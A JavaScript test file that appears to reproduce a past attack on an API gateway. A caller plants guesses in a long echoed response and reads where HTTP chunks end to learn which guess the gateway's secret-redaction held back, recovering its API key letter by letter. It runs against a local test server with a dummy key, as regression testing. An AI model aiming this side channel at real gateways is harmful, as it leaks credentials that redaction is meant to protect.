// The attack that read the key: a caller places a guess in a long response, and learns from where chunks end whether it is right.

import { connect } from "node:net";

import { attack } from "../support/attack.mjs";
import { TOKEN_SECRET } from "../support/gateway.mjs";
import { signJwt } from "../support/jwt.mjs";
import { startServer } from "../support/server.mjs";

const KEY = "outx_g97e4kq0z8w1d5u2";
const ALPHABET = "abcdefghijklmnopqrstuvwxyz0123456789_";
const SIZE = 5 * 1024 * 1024;
/** The part of a response that the gateway buffers. Its chunk boundaries depend on the gateway alone. */
const BUFFERED = 300_000;

/** Starts an API that returns the caller's own text. */
const echo = (t) => startServer(t, (request, response) => {
  if (request.method === "POST") {
    stored = new URL(request.url, "http://api").searchParams.get("text") ?? stored;
    return response.end("{}");
  }
  response.writeHead(200, { "content-type": "application/json" });
  response.end(stored);
});
let stored = "{}";

/** The places at which chunks of the response end, read from the wire. */
async function chunkEnds(url, token) {
  const { hostname, port } = new URL(url);
  const socket = connect(Number(port), hostname);
  socket.end(`GET /api-posts HTTP/1.1\r\nhost: ${hostname}\r\nauthorization: Bearer ${token}\r\n\r\n`);
  const parts = [];
  for await (const part of socket) parts.push(part);
  let wire = Buffer.concat(parts);
  wire = wire.subarray(wire.indexOf("\r\n\r\n") + 4);
  const ends = [];
  for (let at = 0; wire.length > 0; ) {
    const line = wire.indexOf("\r\n");
    const size = Number.parseInt(wire.subarray(0, line).toString(), 16);
    if (!size) break;
    ends.push((at += size));
    wire = wire.subarray(line + 2 + size + 2);
  }
  return ends;
}

/** Builds a response in which a guess ends at each of these places. */
function bodyOf(guesses, ends) {
  const body = Buffer.alloc(SIZE, ".");
  body.write('{"a":"');
  body.write('"}', body.length - 2);
  guesses.forEach((guess, n) => body.write(guess, ends[n] - guess.length));
  return body;
}

attack("reading the key from where chunks end", { oldRule: "partial-hold-back" }, async (t, start) => {
  const gateway = await start(t, { settings: { ACCESS: "token", TOKEN_SECRET, OUTX_API_KEY: KEY }, upstream: await echo(t) });
  const token = signJwt({ scope: "write" });
  let known = "outx_";
  let [reads, fruitless] = [0, 0];
  while (known.length < KEY.length - 1 && reads < 400 && fruitless < 5) {
    // Where chunks end without any guess; then the same with a guess before each of these places.
    stored = bodyOf([], []);
    const usual = (await chunkEnds(gateway.url, token)).filter((end) => end > BUFFERED && end < SIZE - 1_000);
    const guesses = [...ALPHABET].map((letter) => known + letter);
    stored = bodyOf(guesses, usual);
    const ends = new Set(await chunkEnds(gateway.url, token));
    reads += 2;
    // Chunks end elsewhere when the upstream's bytes arrived otherwise: such a pair of reads says nothing.
    if (usual.filter((end) => ends.has(end)).length < usual.length * 0.9) continue;
    // All of the right guess is held back: the chunk ends before it. What was held back moves the next end as well.
    const right = guesses.find((guess, n) => ends.has(usual[n] - guess.length));
    if (right) known = right;
    else fruitless += 1;
  }
  t.diagnostic(`recovered ${JSON.stringify(known)} in ${reads} reads`);
  return known === "outx_" ? undefined : known;
});
